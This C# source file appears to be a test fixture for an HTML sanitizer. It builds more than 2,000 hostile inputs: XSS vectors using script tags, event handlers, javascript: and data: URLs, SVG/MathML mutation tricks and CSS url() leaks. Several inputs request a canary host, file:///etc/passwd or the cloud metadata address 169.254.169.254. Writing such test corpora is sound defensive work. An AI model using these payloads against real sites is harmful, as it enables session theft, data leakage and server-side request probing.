using System.Text.Json;

namespace Amends.Tests.Cast;

/// <summary>
/// HTML that attackers send. Each script would call <c>alert</c> and set <c>window.ran</c>; each load would ask <c>{canary}</c>.
/// Written by us: vectors by class of trick, each in several surroundings.
/// </summary>
static class HostileHtml
{
    const string Js = "window.top.ran=window.ran=1;alert(1)";

    static readonly string[] Scripts =
    [
        $"<script>{Js}</script>",
        $"<SCRIPT>{Js}</SCRIPT >",
        $"<script\n>{Js}</script\n>",
        "<script src=\"{canary}/s.js\"></script>",
        "<script/src={canary}/s.js></script>",
        $"<scr<script>ipt>{Js}</scr</script>ipt>",
        $"<script>{Js}",
        $"<svg><script>{Js}</script></svg>",
        $"<svg><script>{Js.Replace("(", "&lpar;", StringComparison.Ordinal)}</script>",
        "<svg><script href=\"{canary}/s.js\" /></svg>",
        $"<svg/onload=\"{Js}\">",
        $"<svg onload={Js}//",
        $"<svg><animate onbegin=\"{Js}\" attributeName=x dur=1s>",
        $"<svg><set onbegin=\"{Js}\" attributeName=x>",
        $"<svg><a xlink:href=\"javascript:{Js}\"><text y=20>click</text></a></svg>",
        $"<svg><a><animate attributeName=href values=\"javascript:{Js}\"/><text y=20>click</text></a></svg>",
        $"<svg><foreignObject><iframe srcdoc=\"<script>{Js}</script>\"></iframe></foreignObject></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='{Js}'/></svg>#x\"/></svg>",
        $"<svg><style><img src=x onerror=\"{Js}\"></style></svg>",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Js}>\">",
        $"<svg><desc><noembed></desc><img src=x onerror=\"{Js}\"></noembed></svg>",
        $"<svg><title><![CDATA[</title><img src=x onerror=\"{Js}\">]]></svg>",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Js}&gt;\">",
        $"<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror='{Js}' src>\">",
        $"<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=\"{Js}\"></style></annotation-xml></math>",
        $"<math href=\"javascript:{Js}\">click</math>",
        $"<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:{Js}\">click</maction></math>",
        $"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{Js}\">",
        $"<img src=x onerror=\"{Js}\">",
        $"<img src=x onerror={Js}>",
        $"<img/src=x/onerror={Js}>",
        $"<img src=x oneonerrorrror={Js}>",
        $"<img src=\"x\"onerror=\"{Js}\">",
        $"<img \0src=x \0onerror=\"{Js}\">",
        $"<img src=x on\0error=\"{Js}\">",
        $"<img src=x onerror=\"&#97;lert(1);window.top.ran=1\">",
        $"<IMG SRC=x ONERROR=\"{Js}\">",
        $"<img src=x:x onerror\u000b=\"{Js}\">",
        $"<img src='1' onerror\u0009\u000a=\"{Js}\">",
        $"<image src=x onerror=\"{Js}\">",
        $"<img alt=\"`\" src=x onerror=`{Js}`>",
        $"<img src=`x` onerror=`{Js}`>",
        $"<img srcset=\"x 1x\" onerror=\"{Js}\">",
        $"<body onload=\"{Js}\">",
        $"<body onpageshow=\"{Js}\"><p>x",
        $"<html onfocus=\"{Js}\" tabindex=1 autofocus>",
        $"<input autofocus onfocus=\"{Js}\">",
        $"<textarea autofocus onfocus=\"{Js}\">text</textarea>",
        $"<select autofocus onfocus=\"{Js}\"><option>x</select>",
        $"<button autofocus onfocus=\"{Js}\">x</button>",
        $"<div tabindex=0 autofocus onfocus=\"{Js}\">x</div>",
        $"<details open ontoggle=\"{Js}\">x</details>",
        $"<div popover id=p onbeforetoggle=\"{Js}\">x</div><button popovertarget=p>click</button>",
        $"<marquee onstart=\"{Js}\" loop=1>x</marquee>",
        $"<video onerror=\"{Js}\"><source src=x></video>",
        $"<video autoplay onloadstart=\"{Js}\" src=x></video>",
        $"<audio src=x onerror=\"{Js}\"></audio>",
        $"<video poster=javascript:{Js}></video>",
        $"<object data=\"javascript:{Js}\"></object>",
        $"<object data=\"data:text/html,<script>{Js}</script>\"></object>",
        $"<object type=text/html data=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cudG9wLnJhbj0xO2FsZXJ0KDEpPC9zY3JpcHQ+\"></object>",
        $"<embed src=\"javascript:{Js}\">",
        $"<embed src=\"data:text/html,<script>{Js}</script>\">",
        $"<applet onerror=\"{Js}\">x</applet>",
        $"<iframe src=\"javascript:{Js}\"></iframe>",
        $"<iframe srcdoc=\"<script>{Js}</script>\"></iframe>",
        $"<iframe srcdoc=\"&lt;img src=x onerror={Js}&gt;\"></iframe>",
        $"<iframe onload=\"{Js}\"></iframe>",
        $"<iframe/src=data:text/html,<script>{Js}</script>>",
        $"<frameset onload=\"{Js}\"><frame src=\"javascript:{Js}\"></frameset>",
        $"<a href=\"javascript:{Js}\">click</a>",
        $"<a href=\"JaVaScRiPt:{Js}\">click</a>",
        $"<a href=\" javascript:{Js}\">click</a>",
        $"<a href=\"\u0001javascript:{Js}\">click</a>",
        $"<a href=\"java&#9;script:{Js}\">click</a>",
        $"<a href=\"java&#10;script:{Js}\">click</a>",
        $"<a href=\"java&NewLine;script&colon;{Js}\">click</a>",
        $"<a href=\"&#106;avascript:{Js}\">click</a>",
        $"<a href=\"&#x6A&#x61vascript:{Js}\">click</a>",
        $"<a href=\"javascript&#0000058{Js}\">click</a>",
        $"<a href=\"javascript://example.com/%0a{Js}\">click</a>",
        $"<a href=\"data:text/html,<script>{Js}</script>\">click</a>",
        $"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        $"<a href=\"vbscript:msgbox(1)\">click</a>",
        $"<a href=\"feed:javascript:{Js}\">click</a>",
        $"<a href=\"view-source:javascript:{Js}\">click</a>",
        $"<a href=\"blob:javascript:{Js}\">click</a>",
        $"<a href=\"file:///etc/passwd\">click</a>",
        $"<a href=\"intent://x#Intent;scheme=javascript;end\">click</a>",
        $"<a href=\"ms-msdt:/id PCWDiagnostic\">click</a>",
        $"<a href=\"http:javascript:{Js}\">click</a>",
        $"<a xlink:href=\"javascript:{Js}\">click</a>",
        $"<a href=x onclick=\"{Js}\">click</a>",
        $"<a href=\"https://example.com\" onmouseover=\"{Js}\">click</a>",
        $"<a href=\"https://example.com\" ping=\"{{canary}}/ping\">click</a>",
        $"<area href=\"javascript:{Js}\" shape=default>",
        $"<map name=m><area href=\"javascript:{Js}\" shape=rect coords=0,0,9999,9999></map><img usemap=#m src=x>",
        $"<form action=\"javascript:{Js}\"><input type=submit></form>",
        $"<form action=\"{{canary}}/form\"><input name=q autofocus></form>",
        $"<form id=f></form><button form=f formaction=\"javascript:{Js}\">click</button>",
        $"<isindex action=\"javascript:{Js}\" type=submit>",
        $"<base href=\"javascript:{Js}//\"><a href=\"#\">click</a>",
        $"<base href=\"{{canary}}/\"><img src=base.png>",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Js}\">",
        "<meta http-equiv=refresh content=\"0;url={canary}/refresh\">",
        "<meta http-equiv=\"set-cookie\" content=\"a=b\">",
        "<meta http-equiv=\"Link\" content=\"<{canary}/l>; rel=preload; as=style\">",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<link rel=stylesheet href=\"{canary}/l.css\">",
        "<link rel=prefetch href=\"{canary}/l\">",
        "<link rel=dns-prefetch href=\"{canary}\">",
        "<link rel=preload as=image href=\"{canary}/l\">",
        "<link rel=attachment href=\"file:///etc/passwd\">",
        $"<link rel=import href=\"data:text/html,<script>{Js}</script>\">",
        $"<noscript><p title=\"</noscript><img src=x onerror={Js}>\"></noscript>",
        $"<noscript><style></noscript><img src=x onerror={Js}></style>",
        $"<noembed><img title=\"</noembed><img src=x onerror={Js}>\"></noembed>",
        $"<noframes><img title=\"</noframes><img src=x onerror={Js}>\"></noframes>",
        $"<textarea><img title=\"</textarea><img src=x onerror={Js}>\"></textarea>",
        $"<title><img title=\"</title><img src=x onerror={Js}>\"></title>",
        $"<xmp><img title=\"</xmp><img src=x onerror={Js}>\"></xmp>",
        $"<xmp></xmp><img src=x onerror={Js}>",
        $"<plaintext><img src=x onerror={Js}>",
        $"<listing>&lt;img src=x onerror={Js}&gt;</listing>",
        $"<template><script>{Js}</script></template>",
        $"<template shadowrootmode=open><script>{Js}</script><img src=x onerror={Js}></template>",
        $"<div><template shadowrootmode=open><slot></slot><img src=x onerror={Js}></template></div>",
        $"<style><!--</style><img src=x onerror={Js}>--></style>",
        $"<style></style\n><img src=x onerror={Js}>",
        $"<!--><img src=x onerror={Js}>-->",
        $"<!--x--!><img src=x onerror={Js}>",
        $"<!-- --\u00a0><img src=x onerror={Js}>-->",
        $"<![CDATA[><img src=x onerror={Js}>]]>",
        $"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={Js}>'>]>&y;",
        $"<?xml version=\"1.0\"?><img src=x onerror={Js}>",
        $"<?<img src=x onerror={Js}>?>",
        $"</ <img src=x onerror={Js}>",
        $"<a<img src=x onerror={Js}>",
        $"<<img src=x onerror={Js}>",
        $"<p/<img src=x onerror={Js}>",
        $"<x-y><img src=x onerror={Js}></x-y>",
        $"<o:p onclick=\"{Js}\">x</o:p>",
        $"<select><template><img src=x onerror={Js}></template></select>",
        $"<select><style><img title=\"</style><img src=x onerror={Js}>\"></style></select>",
        $"<table><td><svg><td><style><img title=\"</style><img src=x onerror={Js}>\">",
        $"<table background=\"javascript:{Js}\"><tr><td>x",
        $"<div style=\"background:url(javascript:{Js})\">x</div>",
        $"<div style=\"width:expression({Js})\">x</div>",
        $"<div style=\"behavior:url(#default#time2)\" onbegin=\"{Js}\">x</div>",
        $"<div style=\"-moz-binding:url({{canary}}/x.xml#x)\">x</div>",
        $"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Js}'/>\">",
        $"<img src=\"data:text/html,<script>{Js}</script>\">",
        $"<img src=\"data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        $"<img src=\"javascript:{Js}\">",
        $"<img lowsrc=\"javascript:{Js}\" dynsrc=\"javascript:{Js}\">",
        $"<a id=document name=body href=https://example.com>clobber</a><img name=cookie><form name=top><input name=ran></form>",
        $"<a id=x><a id=x name=y href=\"javascript:{Js}\">clobber</a></a>",
        $"<bdo dir=rtl onpointerenter=\"{Js}\">x</bdo>",
        $"<p onwebkitanimationstart=\"{Js}\" style=\"animation:x 1s\">x</p>",
        $"<p contenteditable onblur=\"{Js}\" autofocus>x</p>",
        $"<p accesskey=x onclick=\"{Js}\">x</p>",
        $"<a href=\"https://example.com\" target=_self download=x.html style=\"position:fixed;inset:0;z-index:999\">over all</a>",
        $"<dialog open onclose=\"{Js}\"><form method=dialog><button autofocus>x</button></form></dialog>",
        $"<portal src=\"javascript:{Js}\"></portal>",
        $"<keygen autofocus onfocus=\"{Js}\">",
        $"<font color=\"red\" onmouseover=\"{Js}\">x</font>",
        $"<p \"onclick=\"{Js}\" '>x</p>",
        $"<p title=\"a\" \" onclick={Js} x=\">x</p>",
        $"<p title='\"><img src=x onerror={Js}>'>x</p>",
        $"<p title=\"&quot;&gt;&lt;img src=x onerror={Js}&gt;\">x</p>",
        $"&lt;img src=x onerror={Js}&gt;",
        $"&amp;lt;script&amp;gt;{Js}&amp;lt;/script&amp;gt;",
        $"<p>\ufeff\u0000<\u0000script>{Js}</script>",
        $"\uff1cscript\uff1e{Js}\uff1c/script\uff1e",
        $"<s%00c%00r%00%00ip%00t>{Js}</s%00c%00r%00%00ip%00t>",
    ];

    static readonly string[] Loads =
    [
        "<img src=\"http://{host}/p.gif\">", "<img src=\"//{host}/p.gif\">", "<img src=\"{canary}/p.gif\" width=1 height=1>", "<img src=\" {canary}/p.gif\">",
        "<img src=\"\\\\{host}\\p.gif\">", "<img src=\"http:/{host}/p.gif\">", "<img src=\"http:{host}/p.gif\">", "<img srcset=\"{canary}/p.gif 2x\">",
        "<picture><source srcset=\"{canary}/p.gif\"><img src=x></picture>", "<table background=\"{canary}/p.gif\"><td>x</td></table>",
        "<td background=\"{canary}/p.gif\">x", "<body background=\"{canary}/p.gif\">x", "<video poster=\"{canary}/p.gif\"></video>",
        "<video src=\"{canary}/p.mp4\" autoplay></video>", "<audio src=\"{canary}/p.mp3\" preload></audio>", "<video><track src=\"{canary}/t.vtt\" default></video>",
        "<input type=image src=\"{canary}/p.gif\">", "<object data=\"{canary}/p\"></object>", "<embed src=\"{canary}/p\">", "<iframe src=\"{canary}/p\"></iframe>",
        "<svg><image href=\"{canary}/p.svg\"/></svg>", "<svg><image xlink:href=\"{canary}/p.svg\"/></svg>", "<svg><use href=\"{canary}/p.svg#x\"/></svg>",
        "<svg><filter id=f><feImage href=\"{canary}/p.svg\"/></filter><rect filter=\"url(#f)\" width=9 height=9 /></svg>",
        "<bgsound src=\"{canary}/p.wav\">", "<img src=x lowsrc=\"{canary}/p.gif\">", "<img longdesc=\"{canary}/p\">", "<blockquote cite=\"{canary}/p\">x</blockquote>",
        "<img src=\"cid:x\" srcset=\"{canary}/p.gif 1x\">", "<image src=\"{canary}/p.gif\">", "<img src=\"&#104;ttp://{host}/p.gif\">",
        "<img src=\"ht\ntp://{host}/p.gif\">", "<img src=/api/logout>", "<img src=../../api/cases/1/delete>", "<img src=\"file:///etc/passwd\">",
        "<img src=\"http://169.254.169.254/latest/meta-data\">", "<html manifest=\"{canary}/m\">", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"{canary}/p\"]}]}</script>",
        "<a href=\"{canary}/p\" rel=prefetch>x</a>", "<img src=\"{canary}/p.gif\" loading=eager crossorigin=use-credentials>", "<frame src=\"{canary}/p\">",
    ];

    /// <summary>Style declarations that would load, cover, spy or run.</summary>
    static readonly string[] Styles =
    [
        "background:url({canary}/c)", "background:url('{canary}/c')", "background:url(\"{canary}/c\")", "background: URL({canary}/c)", "background:u\\72l({canary}/c)",
        "background:\\75\\72\\6c({canary}/c)", "background:url(//{host}/c)", "background:red url({canary}/c) no-repeat", "background-image:url({canary}/c)",
        "background-image:image-set('{canary}/c' 1x)", "background-image:-webkit-image-set(url({canary}/c) 1x)", "background-image:cross-fade(url({canary}/c),red)",
        "background-image:image('{canary}/c')", "list-style:url({canary}/c)", "list-style-image:url({canary}/c)", "content:url({canary}/c)", "cursor:url({canary}/c),auto",
        "border-image:url({canary}/c) 30", "border-image-source:url({canary}/c)", "mask:url({canary}/c)", "mask-image:url({canary}/c)", "-webkit-mask-image:url({canary}/c)",
        "clip-path:url({canary}/c#x)", "filter:url({canary}/c#x)", "shape-outside:url({canary}/c)", "offset-path:url({canary}/c)", "src:url({canary}/c)",
        "color:red;background:url({canary}/c)", "color:red;;background:url({canary}/c)", "color:red/*;*/;background:url({canary}/c)", "/*x*/background:url({canary}/c)",
        "back/**/ground:url({canary}/c)", "background:/**/url(/**/{canary}/c)", "background:url(\n{canary}/c\n)", "background:url({canary}/c", "background:url('{canary}/c",
        "--x:url({canary}/c);background:var(--x)", "background:var(--x,url({canary}/c))", "font-family:'x';background:url({canary}/c)", "font-family:'\\';background:url({canary}/c)",
        "font-family:\"a;background:url({canary}/c)\"", "font-family:x\\;background:url({canary}/c)", "font:12px 'a}b{background:url({canary}/c)'",
        "color:red}body{background:url({canary}/c)}", "color:red}@import '{canary}/c';a{b:c", "@import url({canary}/c)", "@font-face{src:url({canary}/c)}",
        "width:expression(alert(1))", "width:exp/**/ression(alert(1))", "behavior:url({canary}/c)", "-moz-binding:url({canary}/c)", "position:fixed;top:0;left:0;width:100%;height:100%",
        "position:absolute;z-index:99999", "animation:x 1s", "transition:all 1s", "transform:scale(99)", "background:attr(data-x url)", "background:element(#x)", "background:paint(x)",
        "zoom:99", "pointer-events:none", "color:\u0000red;background:url({canary}/c)", "background-color:red;\u2028background:url({canary}/c)", "all:unset", "inset:0;position:fixed",
        "background:src('{canary}/c')", "width:calc(1px*9999999)", "-webkit-user-modify:read-write",
    ];

    static readonly string[] Sheets =
    [
        "<style>@import '{canary}/c';</style>", "<style>body{background:url({canary}/c)}</style>", "<style>@font-face{font-family:x;src:url({canary}/c)}*{font-family:x}</style>",
        "<style>input[value^=a]{background:url({canary}/c)}</style><input value=abc>", "<style media=all>*{background:url({canary}/c)}", "<svg><style>*{background:url({canary}/c)}</style></svg>",
        "<math><style>*{background:url({canary}/c)}</style></math>", "<style type=text/css>@namespace x url({canary}/c);</style>",
    ];

    static readonly (string Before, string After)[] Surroundings =
    [
        ("", ""),
        ("<div><p>Hello ", "</p></div>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<table>", "</table>"),
        ("<blockquote><b><i>", "</b></i></blockquote>"),
        ("<html><head><title>x</title></head><body bgcolor=red>", "</body></html>"),
    ];

    /// <summary>Every vector in every surrounding, and every style on four elements: more than 1,500.</summary>
    public static IEnumerable<string> All()
    {
        foreach (var vector in Scripts.Concat(Loads).Concat(Sheets))
            foreach (var (before, after) in Surroundings)
                yield return before + vector + after;
        foreach (var style in StyleVectors())
            yield return style;
    }

    /// <summary>
    /// Made, not written: an element whose content one parser reads as words and another as markup, within another that changes the rules, with the script
    /// behind an end that stands in an attribute, a comment or a foreign element. More than 600.
    /// </summary>
    public static IEnumerable<string> Mutations()
    {
        string[] around = ["{0}", "<svg>{0}</svg>", "<math>{0}</math>", "<math><mtext><mglyph>{0}", "<math><mtext><table><mglyph>{0}", "<svg><foreignObject>{0}</foreignObject></svg>", "<svg><desc>{0}</desc></svg>", "<svg></p>{0}",
            "<math><annotation-xml encoding=text/html>{0}", "<form><math><mtext></form><form>{0}", "<table><td><svg>{0}", "<select>{0}</select>", "<template>{0}</template>", "<p><b><table>{0}"];
        string[] raw = ["style", "noscript", "noembed", "noframes", "xmp", "textarea", "title", "iframe", "plaintext", "listing", "script"];
        var inner = $"<img src=x onerror={Js}>";
        foreach (var outside in around)
            foreach (var name in raw)
                foreach (var body in (string[])[$"<{name}><a title=\"</{name}>{inner}\">", $"<{name}><!--</{name}>{inner}-->", $"<{name}>&lt;/{name}&gt;{inner}</{name}>", $"<{name}><![CDATA[</{name}>]]>{inner}"])
                    yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, outside, body);
    }

    /// <summary>The CSS vectors alone, each on four elements.</summary>
    public static IEnumerable<string> StyleVectors()
    {
        foreach (var style in Styles)
        {
            var value = style.Replace("&", "&amp;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
            yield return $"<div style=\"{value}\">x</div>";
            yield return $"<td style=\"{value}\">x</td>";
            yield return $"<font style=\"COLOR : red ; {value}\">x</font>";
            yield return $"<body style=\"{value}\">x</body>";
        }
        foreach (var sheet in Sheets)
            yield return sheet;
    }

    /// <summary>Different style vectors, before they are put on elements.</summary>
    public static int StyleCount => Styles.Length + Sheets.Length;

    /// <summary>With the address of the server that must not be asked.</summary>
    public static string At(string payload, string canary) =>
        payload.Replace("{canary}", canary, StringComparison.Ordinal).Replace("{host}", canary.Replace("http://", "", StringComparison.Ordinal), StringComparison.Ordinal);

    /// <summary>The published vectors; skips where they are absent.</summary>
    public static List<(string Id, string Payload)> Published() =>
        [.. File.ReadLines(Corpora.Need("html-xss-dompurify", "vectors.jsonl")).Select(line =>
        {
            using var row = JsonDocument.Parse(line);
            return (row.RootElement.GetProperty("id").GetString()!, row.RootElement.GetProperty("payload").GetString()!);
        })];
}
